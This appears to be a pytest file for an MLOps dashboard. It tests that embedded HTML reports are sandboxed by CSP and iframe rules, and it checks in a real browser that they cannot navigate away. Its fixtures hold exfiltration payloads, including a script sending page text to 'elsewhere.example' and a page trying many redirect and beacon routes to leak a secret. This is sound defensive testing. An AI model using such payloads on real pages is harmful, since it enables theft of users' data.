"""A drawn document that is opened alone cannot lead its window elsewhere with what it read."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread
from typing import Any

import mlops_ui_app
import pytest
from fastapi import Request

from monitoring.pages import embedded
from monitoring.pages.embedded import DRAWN, FRAMED, HTML, STILL, Document
from tests.browser import chromium

ADDRESS = "/nightfleet/embedded/m/2024-02-15/drift.html"


@pytest.mark.parametrize(
    ("opened_as", "policy"),
    [("iframe", DRAWN), ("document", FRAMED), ("object", FRAMED), ("embed", FRAMED), (None, STILL)],
)
def test_a_drawn_document_runs_in_a_frame_alone(
    monkeypatch: pytest.MonkeyPatch, opened_as: str | None, policy: str
) -> None:
    content = b"<script>location = 'https://elsewhere.example/?' + document.body.innerText</script>"
    monkeypatch.setattr(embedded, "document", lambda context, path: Document(content, HTML, DRAWN))
    headers = [(b"sec-fetch-dest", opened_as.encode())] if opened_as else []
    scope = {"type": "http", "path": ADDRESS, "headers": headers, "query_string": b"", "server": ("h", 80)}
    context: Any = None
    answer = mlops_ui_app._embedded(Request(scope), "m/2024-02-15/drift.html", context)
    assert answer.headers["content-security-policy"] == policy
    assert answer.headers["vary"] == "sec-fetch-dest"
    if policy == FRAMED:
        assert b"elsewhere" not in answer.body
        assert f'<iframe sandbox="allow-scripts" src="{ADDRESS}"'.encode() in answer.body
        # What holds the frame where it is.
        assert "frame-src 'self'" in policy
        assert "script-src" not in policy
        assert "default-src 'none'" in policy
    else:
        assert bytes(answer.body) == content


# Each way to another address takes what was read along.
LEADING_AWAY = """<!doctype html><html><head><meta http-equiv="refresh" content="0; url=/refreshed?secret"></head><body>
<p>secret</p><a id="link" href="/linked?secret">on</a><a id="up" target="_top" href="/up?secret">up</a>
<form id="form" action="/sent?secret"></form><script>
    const tried = (act) => { try { act() } catch {} };
    tried(() => { location = '/assigned?secret' });
    tried(() => { top.location = '/top?secret' });
    tried(() => window.open('/opened?secret'));
    tried(() => document.getElementById('form').submit());
    tried(() => document.getElementById('up').click());
    tried(() => document.getElementById('link').click());
    tried(() => fetch('/fetched?secret', {mode: 'no-cors'}));
    tried(() => { new Image().src = '/seen?secret' });
</script></body></html>"""


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another host that anybody may ask, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *_: Any) -> None:
            pass

    with serving(Handler) as origin:
        yield origin, asked


@contextmanager
def serving(handler: type[BaseHTTPRequestHandler]) -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def test_in_a_real_browser_it_leads_nowhere(monkeypatch: pytest.MonkeyPatch, elsewhere: tuple[str, list[str]]) -> None:
    other, asked_elsewhere = elsewhere
    content = LEADING_AWAY.replace('="/', f'="{other}/').replace("'/", f"'{other}/").replace("url=/", f"url={other}/")
    monkeypatch.setattr(embedded, "document", lambda context, path: Document(content.encode(), HTML, DRAWN))
    opened_as: list[str | None] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path != ADDRESS:
                self.send_error(404)
                return
            opened_as.append(self.headers.get("sec-fetch-dest"))
            headers = [(name.lower().encode(), value.encode()) for name, value in self.headers.items()]
            scope = {"type": "http", "path": ADDRESS, "headers": headers, "query_string": b"", "server": ("h", 80)}
            context: Any = None
            answer = mlops_ui_app._embedded(Request(scope), "m/2024-02-15/drift.html", context)
            self.send_response(answer.status_code)
            for name, value in answer.headers.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(bytes(answer.body))

        def log_message(self, *_: Any) -> None:
            pass

    with serving(Handler) as origin, chromium() as browser:
        page = browser.new_page()
        page.goto(f"{origin}{ADDRESS}")
        page.frames[1].wait_for_url(
            "chrome-error:**", timeout=15_000
        )  # its scripts ran, and the browser refused where they led
        page.wait_for_load_state("networkidle")
        assert page.url == f"{origin}{ADDRESS}", "the window was led away"
        assert opened_as == ["document", "iframe"]
        assert asked_elsewhere == []
